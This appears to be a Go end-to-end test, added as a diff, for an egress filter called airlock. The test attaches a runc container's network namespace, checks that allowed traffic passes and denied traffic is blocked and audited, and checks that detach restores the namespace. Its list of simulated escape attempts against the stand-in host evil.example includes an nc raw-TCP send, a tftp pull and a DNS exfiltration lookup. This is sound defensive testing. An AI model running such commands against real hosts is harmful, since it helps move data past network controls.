@@ -1,0 +1,317 @@
+package e2e
+
+import (
+	"context"
+	"fmt"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/airlock-dev/airlock/api"
+	"github.com/airlock-dev/airlock/audit"
+	"github.com/airlock-dev/airlock/audit/audittest"
+	"github.com/airlock-dev/airlock/netns/netnstest"
+	"github.com/airlock-dev/airlock/test/poll"
+	"github.com/airlock-dev/airlock/test/runctest"
+	"github.com/airlock-dev/airlock/test/servetest"
+)
+
+// podNet is the network a container platform gives a pod before airlock is
+// asked to attach it, as containerd and CRI-O do for CNI: a namespace pinned at
+// /run/netns/NAME with lo up and an eth0 (a veth whose peer sits in the fake
+// internet's namespace, standing in for the node's bridge) with an address and
+// a default route, so without airlock the pod reaches every fake host.
+type podNet struct {
+	name, path string
+}
+
+// Addresses of the pod's veth; the peer end is in the fake internet's
+// namespace, which answers the pod over it.
+const (
+	podPeerAddr = "198.18.77.1"
+	podAddr     = "198.18.77.2"
+)
+
+func newPodNet(t *testing.T) *podNet {
+	t.Helper()
+	p := &podNet{name: netnstest.NSName("pod")}
+	p.path = "/run/netns/" + p.name
+	podSide, peer := netnstest.LinkName("c"), netnstest.LinkName("p")
+	t.Cleanup(func() {
+		// Deleting the namespace deletes the veth pair, the peer included.
+		_ = exec.Command("ip", "netns", "delete", p.name).Run()
+		_ = exec.Command("ip", "-n", w.net.Name, "link", "delete", peer).Run()
+	})
+	for _, argv := range [][]string{
+		{"ip", "netns", "add", p.name},
+		{"ip", "-n", p.name, "link", "set", "lo", "up"},
+		{"ip", "link", "add", podSide, "netns", p.name, "type", "veth", "peer", "name", peer, "netns", w.net.Name},
+		{"ip", "-n", p.name, "link", "set", podSide, "name", "eth0"},
+		{"ip", "-n", p.name, "addr", "add", podAddr + "/30", "dev", "eth0"},
+		{"ip", "-n", p.name, "link", "set", "eth0", "up"},
+		{"ip", "-n", p.name, "route", "add", "default", "via", podPeerAddr},
+		{"ip", "-n", w.net.Name, "addr", "add", podPeerAddr + "/30", "dev", peer},
+		{"ip", "-n", w.net.Name, "link", "set", peer, "up"},
+	} {
+		mustRun(t, argv...)
+	}
+	return p
+}
+
+func mustRun(t *testing.T, argv ...string) string {
+	t.Helper()
+	out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
+	if err != nil {
+		t.Fatalf("%s: %v: %s", strings.Join(argv, " "), err, out)
+	}
+	return string(out)
+}
+
+// saveCmds are the two iptables backends' save commands.
+var saveCmds = map[string]string{"legacy": "iptables-legacy-save", "nft": "iptables-nft-save"}
+
+// state is what an attach changes in the pod's namespace and a detach must put
+// back: both backends' rules, the sysctls it writes, addresses and routes.
+func (p *podNet) state(t *testing.T) map[string]string {
+	t.Helper()
+	s := map[string]string{}
+	for backend, save := range saveCmds {
+		s["rules "+backend] = normalizeSave(mustRun(t, "ip", "netns", "exec", p.name, save))
+	}
+	s["sysctls"] = mustRun(t, "ip", "netns", "exec", p.name, "sh", "-c",
+		"grep -H . /proc/sys/net/ipv4/conf/*/route_localnet /proc/sys/net/ipv6/conf/*/disable_ipv6")
+	s["addresses"] = mustRun(t, "ip", "-n", p.name, "addr")
+	s["routes"] = sortedLines(mustRun(t, "ip", "-n", p.name, "route", "show", "table", "all") +
+		mustRun(t, "ip", "-6", "-n", p.name, "route", "show", "table", "all"))
+	return s
+}
+
+var counters = regexp.MustCompile(` \[[0-9]+:[0-9]+\]$`)
+
+// normalizeSave keeps what iptables-save says about rules: no comments or
+// packet counters, and no table that holds nothing (built-in chains with
+// policy ACCEPT only), which is what an absent table and an emptied one both
+// mean.
+func normalizeSave(s string) string {
+	var out strings.Builder
+	for _, table := range strings.SplitAfter(s, "COMMIT\n") {
+		var lines []string
+		empty := true
+		for _, l := range strings.Split(table, "\n") {
+			if l == "" || strings.HasPrefix(l, "#") {
+				continue
+			}
+			l = counters.ReplaceAllString(l, "")
+			if strings.HasPrefix(l, "-A") || (strings.HasPrefix(l, ":") && !strings.HasSuffix(l, " ACCEPT")) {
+				empty = false
+			}
+			lines = append(lines, l)
+		}
+		if !empty {
+			out.WriteString(strings.Join(lines, "\n") + "\n")
+		}
+	}
+	return out.String()
+}
+
+func sortedLines(s string) string {
+	lines := strings.Split(strings.TrimSpace(s), "\n")
+	slices.Sort(lines)
+	return strings.Join(lines, "\n")
+}
+
+// TestRuncContainerAttach takes the path a container platform takes with a
+// real OCI runtime: runc starts a busybox container in the pod's pinned
+// network namespace, the namespace is attached through the daemon's API
+// (POST /v1/attach, as the CNI plugin does), and from inside the container an
+// allowed host is reached only through airlock, by the explicit proxy and by a
+// direct connection after DNS through the filter, while a denied host sees
+// nothing by name, by address or over UDP. Detach leaves the namespace as it
+// was. It runs twice on the same container: first with the platform's own
+// rule in iptables-nft only (airlock then uses nft), then with one in
+// iptables-legacy too (airlock uses legacy); each round must change only the
+// backend it chose.
+func TestRuncContainerAttach(t *testing.T) {
+	e := newServeEnv(t)
+	d := startServe(t, e, filepath.Join(e.dir, "run"))
+	pod := newPodNet(t)
+	ctr := runctest.Start(t, runctest.Options{
+		NetNS: pod.path,
+		Files: map[string]string{"etc/resolv.conf": "nameserver " + w.net.DNSAddr.Addr().String() + "\n"},
+	})
+	if dirs := ctr.CgroupDirs(); len(dirs) == 0 {
+		t.Errorf("container %s has no cgroup directory named %s", ctr.ID, ctr.Cgroup)
+	}
+
+	// Without airlock the container reaches the host airlock will deny: what
+	// the attach must stop is possible.
+	evil := snap(w.evil)
+	if r := ctr.Exec(nil, "timeout", "20", "wget", "-q", "-O-", "http://evil.example/runc-baseline"); r.Code != 0 || !strings.Contains(r.Stdout, "hello from evil.example/runc-baseline") {
+		t.Fatalf("baseline wget from the container: %s", r)
+	}
+	if got := snap(w.evil).sub(evil).conns; got != 1 {
+		t.Fatalf("evil.example connections from the unattached container: got %d, want 1", got)
+	}
+
+	mustRun(t, "ip", "netns", "exec", pod.name, "iptables-nft", "-w", "-A", "INPUT", "-p", "tcp", "--dport", "9",
+		"-m", "comment", "--comment", "alk-platform-nft", "-j", "ACCEPT")
+	t.Run("platform rules in nft", func(t *testing.T) { attachRound(t, e, d, pod, ctr, "nft") })
+	mustRun(t, "ip", "netns", "exec", pod.name, "iptables-legacy", "-w", "-A", "INPUT", "-p", "tcp", "--dport", "9",
+		"-m", "comment", "--comment", "alk-platform-legacy", "-j", "ACCEPT")
+	t.Run("platform rules in legacy too", func(t *testing.T) { attachRound(t, e, d, pod, ctr, "legacy") })
+}
+
+// attachRound attaches the pod, checks egress from the container and
+// detaches; backend is the one airlock must pick.
+func attachRound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, ctr *runctest.Container, backend string) {
+	before := pod.state(t)
+	id := sandboxID("runc-" + backend)
+	ctx := context.Background()
+	if err := d.C.Attach(ctx, api.AttachRequest{ID: id, NetNS: pod.path, Labels: map[string]string{"runtime": "runc", "container": ctr.ID}}); err != nil {
+		t.Fatalf("attach %s: %v\n%s", pod.path, err, d.Output())
+	}
+	attached := true
+	t.Cleanup(func() {
+		if attached {
+			_ = d.C.Detach(context.Background(), id)
+		}
+	})
+	for b, save := range saveCmds {
+		rules := mustRun(t, "ip", "netns", "exec", pod.name, save)
+		if got := strings.Contains(rules, "AIRLOCK"); got != (b == backend) {
+			t.Errorf("%s holds airlock's rules: %v, want %v\n%s", save, got, b == backend, rules)
+		}
+	}
+
+	evil, other := snap(w.evil), snap(w.other)
+	proxy := []string{"http_proxy=http://127.0.0.1:3128"}
+	wget := func(env []string, url string) runctest.Result {
+		return ctr.Exec(env, "timeout", "20", "wget", "-q", "-O-", url)
+	}
+	allowed := []struct{ name, path string }{
+		{"explicit proxy", "/runc-proxy-" + id},
+		{"direct connection", "/runc-direct-" + id},
+	}
+	for i, a := range allowed {
+		env := proxy
+		if i == 1 {
+			env = nil
+		}
+		if r := wget(env, "http://other.example.test"+a.path); r.Code != 0 || !strings.Contains(r.Stdout, "hello from other.example.test"+a.path) {
+			t.Errorf("%s to the allowed host: %s", a.name, r)
+		}
+	}
+	evilIP := w.evil.IP.String()
+	attacks := []struct {
+		name string
+		env  []string
+		argv []string
+	}{
+		{"denied host through the proxy", proxy, []string{"wget", "-q", "-O-", "http://evil.example/runc-proxy"}},
+		{"denied host by name, no proxy", nil, []string{"wget", "-q", "-O-", "http://evil.example/runc-direct"}},
+		{"denied host by address", nil, []string{"wget", "-q", "-O-", "http://" + evilIP + "/runc-ip"}},
+		{"raw TCP to the denied host's echo port", nil, []string{"sh", "-c", "echo x | nc -w 3 " + evilIP + " 7"}},
+		{"UDP to the denied host", nil, []string{"tftp", "-g", "-r", "x", "-l", "/tmp/x", evilIP, "7"}},
+		{"DNS to the denied host as resolver", nil, []string{"nslookup", "exfil-" + id + ".evil.example", evilIP}},
+	}
+	for _, a := range attacks {
+		r := ctr.Exec(a.env, append([]string{"timeout", "10"}, a.argv...)...)
+		if strings.Contains(r.Stdout, "hello from") || strings.Contains(r.Stdout, "x\n") {
+			t.Errorf("%s: answered: %s", a.name, r)
+		}
+	}
+	// The container holds no CAP_NET_ADMIN: it cannot take its route or
+	// rules away.
+	if r := ctr.Exec(nil, "ip", "route", "del", "default"); r.Code == 0 {
+		t.Errorf("the container deleted its default route: %s", r)
+	}
+
+	if got := snap(w.evil).sub(evil); got != (counts{}) {
+		t.Errorf("denied host saw %+v (connections, requests, datagrams), want none", got)
+	}
+	var paths []string
+	for _, r := range seenSince(w.other, int(other.requests)) {
+		paths = append(paths, r.URL.Path)
+	}
+	if want := []string{allowed[0].path, allowed[1].path}; !slices.Equal(paths, want) {
+		t.Errorf("allowed host served %q, want %q", paths, want)
+	}
+
+	// Every decision is in the audit log under the attached sandbox's id.
+	wantRecs := []struct {
+		what string
+		ok   func(audit.Record) bool
+	}{
+		{"allow through the proxy", func(r audit.Record) bool {
+			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == allowed[0].path
+		}},
+		{"allow of the direct connection", func(r audit.Record) bool {
+			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == allowed[1].path
+		}},
+		{"DNS through the filter", func(r audit.Record) bool {
+			return r.Kind == audit.KindDNS && strings.TrimSuffix(r.QName, ".") == "other.example.test"
+		}},
+		{"deny of the denied host by name", func(r audit.Record) bool {
+			return r.Decision == audit.DecisionDeny && r.Host == "evil.example"
+		}},
+		{"deny of the denied host by address", func(r audit.Record) bool {
+			return r.Decision == audit.DecisionDeny && r.Kind != audit.KindDrop && (r.Host == evilIP || r.IP == evilIP)
+		}},
+		{"drop of the UDP datagram", func(r audit.Record) bool {
+			return r.Kind == audit.KindDrop && r.Protocol == "udp" && r.IP == evilIP && r.Port == 7
+		}},
+		{"deny of the exfiltrating DNS name", func(r audit.Record) bool {
+			return r.Kind == audit.KindDNS && r.Decision == audit.DecisionDeny && strings.HasPrefix(r.QName, "exfil-"+id)
+		}},
+	}
+	var mine []audit.Record
+	complete := poll.Within(20*time.Second, func() bool {
+		mine = mine[:0]
+		recs, _ := audittest.ReadFile(e.audit)
+		for _, r := range recs {
+			if r.Sandbox == id {
+				mine = append(mine, r)
+			}
+		}
+		for _, wr := range wantRecs {
+			if !slices.ContainsFunc(mine, wr.ok) {
+				return false
+			}
+		}
+		return true
+	})
+	if !complete {
+		for _, wr := range wantRecs {
+			if !slices.ContainsFunc(mine, wr.ok) {
+				t.Errorf("no audit record for %s", wr.what)
+			}
+		}
+		t.Logf("records of %s:\n%s", id, dump(mine))
+	}
+
+	if err := d.C.Detach(ctx, id); err != nil {
+		t.Fatalf("detach: %v", err)
+	}
+	attached = false
+	// IPv6 link-local addresses come back when disable_ipv6 is cleared, after
+	// duplicate address detection: wait for the namespace to settle.
+	var after map[string]string
+	poll.Within(20*time.Second, func() bool {
+		after = pod.state(t)
+		return fmt.Sprint(after) == fmt.Sprint(before)
+	})
+	for k, v := range before {
+		if after[k] != v {
+			t.Errorf("%s after detach:\n%s\nwant (before attach):\n%s", k, after[k], v)
+		}
+	}
+	// And the container reaches the fake internet directly again.
+	evil = snap(w.evil)
+	if r := wget(nil, "http://evil.example/runc-after-"+backend); r.Code != 0 || snap(w.evil).sub(evil).conns != 1 {
+		t.Errorf("direct wget after detach: %s (connections %d, want 1)", r, snap(w.evil).sub(evil).conns)
+	}
+}
